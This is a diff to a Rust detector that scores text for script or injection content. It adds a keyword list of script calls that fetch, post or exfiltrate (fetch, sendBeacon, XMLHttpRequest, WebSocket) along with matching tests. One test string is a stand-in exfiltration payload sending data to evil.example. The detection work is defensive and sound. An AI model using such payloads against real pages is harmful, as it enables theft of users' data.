@@ -4,7 +4,29 @@
 //! ES module imports; 3 = anything shaped like a tag, any `on...=` attribute, any script scheme;
 //! 4 = markup residue (`<`, `>`, backticks, a quote closing into code).
 
-use super::{data_html_at, is_event_name, lower_at, scheme_at, starts_with_ci};
+use std::sync::LazyLock;
+
+use aho_corasick::AhoCorasick;
+
+use super::{data_html_at, is_event_name, literals, lower_at, scheme_at, starts_with_ci};
+
+/// Script functions that print, fetch, post or compile, called right away (level 2; the
+/// level-1 sinks are in the parent module).
+static CALLS: LazyLock<AhoCorasick> = LazyLock::new(|| {
+    literals(&[
+        "print",
+        "fetch",
+        "function",
+        "sendbeacon",
+        "xmlhttprequest",
+        "websocket",
+        "eventsource",
+        "postmessage",
+        "importscripts",
+        "write",
+        "writeln",
+    ])
+});
 
 /// Elements that run, load or submit something by themselves (level 2).
 const ACTIVE_ELEMENTS: &[&str] = &[
@@ -85,6 +107,17 @@ fn level2(b: &[u8]) -> bool {
         || comment_marker(b)
         || string_breakout_assignment(b)
         || module_import(b)
+        || script_call(b)
+}
+
+/// `print()`, `fetch('//x')`, `Function('...')`, ``document.write`...` ``: one of [`CALLS`]
+/// called directly (a blank before the parenthesis is prose: `print (in colour)`).
+fn script_call(b: &[u8]) -> bool {
+    CALLS.find_iter(b).any(|m| {
+        let (s, e) = (m.start(), m.end());
+        (s == 0 || !(b[s - 1].is_ascii_alphanumeric() || matches!(b[s - 1], b'_' | b'$')))
+            && matches!(b.get(e), Some(b'(' | b'`'))
+    })
 }
 
 fn level3(b: &[u8]) -> bool {
@@ -339,6 +372,9 @@ mod tests {
             "'; document.title=",
             "import { sayHi, sayBye } from \"./greeting.js\";",
             "import('./x.js')",
+            "\"-print()-\"",
+            "fetch('//evil.example/?c='+x)",
+            "navigator.sendBeacon(u,d)",
         ] {
             assert_eq!(level(a), Some(2), "{a}");
         }
@@ -378,6 +414,7 @@ mod tests {
             "x--y",
             "I said \"in a minute\" = later",
             "We import goods from China",
+            "print (in colour) and fetch (the paper)",
             "The onload event fires when a page loads",
             "Here's a video: <a href=\"https://www.youtube.com/watch?v=x\">",
             "<?xml version=\"1.0\"?><svg></svg>",
